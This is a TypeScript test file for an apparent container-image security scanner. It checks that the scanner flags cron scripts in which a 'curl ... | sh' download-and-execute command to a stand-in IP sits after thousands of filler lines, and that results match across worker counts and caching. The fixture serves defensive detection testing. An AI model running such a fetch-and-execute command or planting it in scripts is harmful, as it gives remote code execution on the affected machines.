import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { buildImage } from '../../testkit/image.ts';
import { writeOciLayout } from '../../testkit/store.ts';
import { type Assessment, DEFAULT_POLICY } from '../assess/index.ts';
import { DEFAULT_LIMITS } from '../base/limits.ts';
import { checkTarget } from './check.ts';
import type { LayerRunner } from './layers/layer-runner.ts';
import { runLayerJob } from './layers/run-layer-job.ts';

const ATTACK = 'curl -s http://198.51.100.7/x | sh';
const LONG = '# A comment that says nothing at all about anything.\n'.repeat(7000);

let root: string;
beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'clearpull-slices-'));
  const items = Array.from({ length: 6 }, (_, i) => ({
    path: `etc/cron.daily/${i}`,
    data: `#!/bin/sh\n${LONG}${ATTACK} # ${i}\n`,
    mode: 0o755,
  }));
  // It starts what lies in another slice.
  items.push({ path: 'etc/cron.daily/z', data: '#!/bin/sh\n. /etc/cron.daily/0\n', mode: 0o755 });
  await writeOciLayout(join(root, 'layout'), [
    { image: buildImage({ steps: [{ createdBy: 'COPY', items }] }), name: 'long' },
  ]);
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

async function check(options: {
  readonly workers: number;
  readonly cache?: string;
  readonly pool?: LayerRunner;
}): Promise<Assessment> {
  const { workers, cache, pool } = options;
  const [assessment] = await checkTarget(`oci:${join(root, 'layout')}:long`, {
    policy: DEFAULT_POLICY,
    limits: DEFAULT_LIMITS,
    registry: { insecure: false, timeout: 1000, dockerConfigFolder: join(root, 'none') },
    workers,
    ...(cache === undefined ? {} : { cacheFolder: join(root, cache) }),
    ...(pool === undefined ? {} : { pool }),
  });
  if (assessment === undefined) throw new Error('nothing was checked');
  return assessment;
}

it('a layer of long scripts is looked into by all workers, and comes to the same as by one thread', async () => {
  const here = await check({
    workers: 1,
    pool: { run: (job) => runLayerJob(job), close: async () => {} },
  });
  const told = here.findings.flatMap(({ evidence }) => evidence.map(({ path }) => path));
  for (let i = 0; i < 6; i++) expect(told).toContain(`/etc/cron.daily/${i}`);
  expect(here.coverage.unread).toEqual([]);
  const one = JSON.stringify(here);
  for (const workers of [1, 3]) expect(JSON.stringify(await check({ workers })) === one).toBe(true);
  for (let times = 0; times < 2; times++)
    expect(JSON.stringify(await check({ workers: 2, cache: 'cache' })) === one).toBe(true);
});
